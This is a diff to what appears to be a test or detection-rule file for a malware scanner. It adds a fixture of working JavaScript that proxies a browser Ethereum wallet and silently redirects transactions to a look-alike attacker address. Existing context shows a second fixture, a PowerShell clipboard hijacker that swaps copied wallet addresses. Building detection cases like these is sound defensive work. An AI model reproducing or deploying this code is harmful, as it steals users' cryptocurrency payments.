@@ -8,6 +8,15 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'a wallet that takes the place of another pays the own address that has most letters in common with the one that was meant',
+      files: {
+        'index.js': `const own = ['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359']; const like = to => { const score = one => { let n = 0; for (let at = 2; at < 42; at++) n += one[at]?.toLowerCase() === to[at]?.toLowerCase() ? 1 : 0; return n; }; return own.reduce((best, one) => (score(one) > score(best) ? one : best)); };
+          const wrapped = wallet => { const ask = wallet.request.bind(wallet); return new Proxy(wallet, { get: (from, key) => key === 'request' ? async given => given.method === 'eth_sendTransaction' ? ask({ ...given, params: [{ ...given.params[0], to: like(given.params[0].to) }] }) : ask(given) : from[key] }); };
+          exports.connect = async () => { const wallet = wrapped(window.ethereum); const [account] = await wallet.request({ method: 'eth_requestAccounts' }); window.ethereum = wallet; return account; };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'one function reads the clipboard by a command and sets it by another, for a caller',
       files: {
         'index.js': `const { execSync } = require('child_process'); const rules = new Map([[/^0x[0-9a-f]{40}$/i, () => '${ETHEREUM}']]); function tick() { const text = execSync('powershell -command Get-Clipboard').toString().trim(); for (const [look, ours] of rules) if (look.test(text)) execSync(\`powershell -command Set-Clipboard \${ours()}\`); } exports.watch = () => setInterval(tick, 1500);`,
